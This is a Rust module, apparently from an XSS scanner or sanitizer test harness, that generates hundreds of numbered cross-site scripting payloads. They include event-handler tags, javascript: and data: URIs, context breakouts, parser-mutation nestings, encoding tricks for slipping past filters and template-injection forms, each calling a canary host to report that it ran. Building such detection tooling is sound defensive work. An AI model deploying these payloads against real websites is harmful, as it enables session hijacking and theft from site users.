//! Payloads by shape: what can carry a script, crossed with how that can be written and where it can stand.
//!
//! Each asks a canary once it runs, and tells by which number: a script that a browser starts is a request.

/// The host that payloads ask when they run, and that nothing else ever asks.
pub(super) const CANARY: &str = "canary.test";

/// Elements that start a script by an event of their own, with that event.
const HANDLED: &[(&str, &str)] = &[
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("img src=/picture.svg", "onload"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("math><mi", "onmouseover"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("a href=https://kabar.example/ autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("track src=x", "onerror"),
    ("details open", "ontoggle"),
    ("dialog open", "onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("frameset", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("form><button autofocus", "onfocus"),
    ("p contenteditable autofocus", "onfocus"),
    ("x tabindex=1 autofocus", "onfocus"),
    ("div style=animation:a 1s", "onanimationstart"),
    ("custom-element popover", "onbeforetoggle"),
];

/// Attributes that take an address which may be a script.
const CARRIERS: &[&str] = &[
    "<a href=\"{}\">a</a>",
    "<a xlink:href=\"{}\">a</a>",
    "<area href='{}' shape=default>",
    "<base href=\"{}//\">",
    "<iframe src=\"{}\"></iframe>",
    "<iframe/src='{}'>",
    "<frameset><frame src=\"{}\"></frameset>",
    "<form action=\"{}\"><input type=submit autofocus></form>",
    "<button formaction=\"{}\">a</button>",
    "<object data=\"{}\"></object>",
    "<object><param name=src value=\"{}\"></object>",
    "<embed src=\"{}\">",
    "<svg><a href=\"{}\"><text>a</text></a></svg>",
    "<svg><use href=\"{}\" /></svg>",
    "<svg><script href=\"{}\"></script></svg>",
    "<svg><animate attributeName=href to=\"{}\" /></svg>",
    "<math><mtext href=\"{}\">a</mtext></math>",
    "<script src=\"{}\"></script>",
    "<link rel=stylesheet href=\"{}\">",
    "<link rel=import href=\"{}\">",
    "<meta http-equiv=refresh content=\"0;url={}\">",
    "<img src=\"{}\">",
    "<img srcset=\"{} 1x\" src=/picture.svg>",
    "<video poster=\"{}\"></video>",
    "<video><source src=\"{}\"></video>",
    "<input type=image src=\"{}\">",
    "<table background=\"{}\"><td>a</table>",
    "<body background=\"{}\">",
    "<p style=\"background:url({})\">a</p>",
    "<style>@import \"{}\";</style>",
    "<blockquote cite=\"{}\">a</blockquote>",
    "<portal src=\"{}\"></portal>",
];

/// What gets out of the place in which a page may put a text.
const BREAKOUTS: &[&str] = &[
    "\">",
    "'>",
    "`>",
    "\"/>",
    "</a>",
    "</h3></article></main>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</noembed>",
    "</template>",
    "</xmp>",
    "</select></option>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "\\\">",
    "\u{0}\">",
    "%22%3E",
    "&quot;&gt;",
    "<!--",
    "<![CDATA[",
    "<a title=\"",
    "\"}]}</script>",
];

/// Nestings that a parser turns into something else when it reads its own text again.
const MUTATIONS: &[&str] = &[
    "<svg></p><style><a id=\"</style>{}\">",
    "<svg><title><style>{}</style></title></svg>",
    "<svg><desc><noscript>{}</noscript></desc></svg>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><style>&lt;/style&gt;{}</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>{}--></style></table></mtext></math>",
    "<math><mtext></form><form><mglyph><style></math>{}",
    "<math><annotation-xml encoding=\"text/html\">{}</annotation-xml></math>",
    "<math><mtext><option><x><option></option><mglyph><svg><mtext><style><a title=\"</style>{}\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{}\">",
    "<noscript><p title=\"</noscript>{}\">",
    "<noembed><p title=\"</noembed>{}\"></noembed>",
    "<xmp><p title=\"</xmp>{}\">",
    "<listing>&lt;/listing&gt;{}</listing>",
    "<plaintext>{}",
    "<title>{}</title>",
    "<textarea>{}</textarea>",
    "<style>{}</style>",
    "<template>{}</template>",
    "<div><template shadowrootmode=open>{}</template></div>",
    "<select><style></select>{}</style></select>",
    "<table><tr><td><a><table>{}</table></a></td></tr></table>",
    "<table>{}<tr><td>a",
    "<b><p><b><p><b>{}</b></p></b></p></b>",
    "<a href=https://kabar.example/><table><a>{}</a></table></a>",
    "<!--><p>-->{}<!---->",
    "<!--a--!>{}-->",
    "<![CDATA[<p title=\"]]>{}\">",
    "<?a >{}?>",
    "<!DOCTYPE a [<!ENTITY b \"{}\">]>&b;",
    "<iframe srcdoc='{}'></iframe>",
    "<img alt='{}' src=/picture.svg>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<{}>>",
];

/// Ways in which a filter may be made to read other characters than a browser does.
fn disguises(markup: &str) -> Vec<String> {
    let escaped = markup.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let by_number = |write: &dyn Fn(u32) -> String| markup.chars().map(|c| write(u32::from(c))).collect::<String>();
    vec![
        escaped.clone(),
        escaped.replace('&', "&amp;"),
        by_number(&|c| format!("&#{c};")),
        by_number(&|c| format!("&#x{c:X};")),
        by_number(&|c| format!("&#{c:07}")),
        by_number(&|c| format!("%{c:02x}")),
        by_number(&|c| format!("\\u{c:04x}")),
        markup.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
        markup.replace('<', "+ADw-").replace('>', "+AD4-"),
        markup.replace('<', "<\u{0}"),
        markup.replace('<', "< "),
        markup.replace('<', "\u{feff}<"),
        markup.replacen('i', "i\u{0}", 1),
        markup.replace(' ', "\u{b}"),
        markup.replace(' ', "\u{c}"),
        markup.replace(' ', "\u{a0}"),
        markup.replace('>', ""),
        markup.to_uppercase().replace("HTTP://CANARY.TEST/RAN", "http://canary.test/ran"),
    ]
}

/// Spellings of an address that is a script.
fn addresses(code: &str) -> Vec<String> {
    let page = format!("<script>{code}</script>");
    vec![
        format!("javascript:{code}"),
        format!("JaVaScRiPt:{code}"),
        format!("java\tscript:{code}"),
        format!("java\nscript:{code}"),
        format!("java&#x0A;script&colon;{code}"),
        format!("&#106;&#97;vascript&#58;{code}"),
        format!(" \u{1}javascript:{code}"),
        format!("\u{feff}javascript:{code}"),
        format!("javascript://kabar.example/%0a{code}"),
        format!("vbscript:{code}"),
        format!("livescript:{code}"),
        format!("feed:javascript:{code}"),
        format!("view-source:javascript:{code}"),
        format!("jar:javascript:{code}"),
        format!("data:text/html,{page}"),
        format!("data:text/html;charset=utf-8,{}", page.replace('<', "%3c").replace('>', "%3e")),
        format!("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{code}\"/>"),
        format!("data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{code}</script>"),
        format!("data:text/javascript,{code}"),
        format!("blob:https://kabar.example/{code}"),
        format!("http://{CANARY}/frame/javascript:{code}"),
        format!("//{CANARY}/frame/\"onload=\"{code}"),
        format!("https://kabar.example/\"><script>{code}</script>"),
        format!("https://kabar.example/' autofocus onfocus='{code}"),
    ]
}

/// Texts that a template could take for its own.
fn templates(markup: &str) -> Vec<String> {
    vec![
        format!("{{{{ \"{}\"|safe }}}}", markup.replace('"', "'")),
        format!("{{% raw %}}{markup}{{% endraw %}}"),
        format!("{{% autoescape false %}}{markup}{{% endautoescape %}}"),
        format!("${{{markup}}}"),
        format!("<%= {markup} %>"),
        format!("{{{{constructor.constructor('{}')()}}}}", markup.replace('\'', "")),
    ]
}

/// All payloads. Their numbers are the same in each run.
pub(super) fn payloads() -> Vec<String> {
    let mut payloads = Payloads(Vec::new());
    for (at, (element, event)) in HANDLED.iter().enumerate() {
        let name = element.split([' ', '>']).next().unwrap_or_default();
        let spellings: [&dyn Fn(&str) -> String; 6] = [
            &|code| format!("<{element} {event}={code}>"),
            &|code| format!("<{}/{}=\"{code}\">", element.replace(' ', "/"), event.to_uppercase()),
            &|code| format!("<{element}\n{event}\t=\r\n\"{code}\"//>a</{name}>"),
            &|code| format!("<{element} title=\"a\"{event}=\"{code}\""),
            &|code| format!("<{element} {event}={code} <p>a</p>"),
            &|code| format!("<p>a<{element} a=\"'\" {event}=\"{code}\" b='\"'>b</p>"),
        ];
        for spelling in [at, at + 1] {
            payloads.add(spellings[spelling % spellings.len()]);
        }
    }
    let spellings = addresses("").len();
    for (at, carrier) in CARRIERS.iter().enumerate() {
        for spelling in [at, at + 7, at + 15] {
            payloads.add(&|code| carrier.replace("{}", &addresses(code)[spelling % spellings]));
        }
    }
    for spelling in 0..spellings {
        payloads.add(&|code| addresses(code)[spelling].clone());
    }
    for (at, breakout) in BREAKOUTS.iter().enumerate() {
        let vectors: [&dyn Fn(&str) -> String; 3] = [&script, &picture, &drawing];
        payloads.add(&|code| format!("{breakout}{}", vectors[at % 3](code)));
        payloads.add(&|code| format!("a{breakout}b {}", vectors[(at + 1) % 3](code)));
    }
    for quote in ["\"", "'", "`", ""] {
        payloads.add(&|code| format!("{quote} autofocus onfocus={code} a={quote}"));
        payloads.add(&|code| format!("{quote} onmouseover={quote}{} {quote}", code.replace('\'', "&#39;")));
    }
    for mutation in MUTATIONS {
        payloads.add(&|code| mutation.replace("{}", &picture(code)));
    }
    for disguise in 0..disguises("").len() {
        payloads.add(&|code| disguises(&picture(code))[disguise].clone());
        payloads.add(&|code| disguises(&script(code))[disguise].clone());
    }
    for template in 0..templates("").len() {
        payloads.add(&|code| templates(&picture(code))[template].clone());
    }
    for shape in SCRIPTS {
        payloads.add(&|code| shape.replace("{}", code));
    }
    payloads.0
}

/// Spellings of the element itself.
const SCRIPTS: &[&str] = &[
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script/a>{}</script\n>",
    "<script\n>{}</script a=b>",
    "<script>{}",
    "<script type=module>{}</script>",
    "<script type=\"text/javascript\">//<![CDATA[\n{}//]]></script>",
    "<script><!--\n{}//--></script>",
    "<script>{};//<",
    "<svg><script>{}</script></svg>",
    "<svg><script>{}</svg>",
    "<math><script>{}</script></math>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{}</x:script>",
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">{}</script>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{}</script></svg>",
];

fn script(code: &str) -> String {
    format!("<script>{code}</script>")
}

fn picture(code: &str) -> String {
    format!("<img src=x onerror={code}>")
}

fn drawing(code: &str) -> String {
    format!("<svg/onload=\"{code}\">")
}

struct Payloads(Vec<String>);

impl Payloads {
    /// Adds what `write` makes of the code that asks the canary by the payload's number.
    fn add(&mut self, write: &dyn Fn(&str) -> String) {
        let code = format!("fetch('http://{CANARY}/ran/{}')", self.0.len());
        self.0.push(write(&code));
    }
}
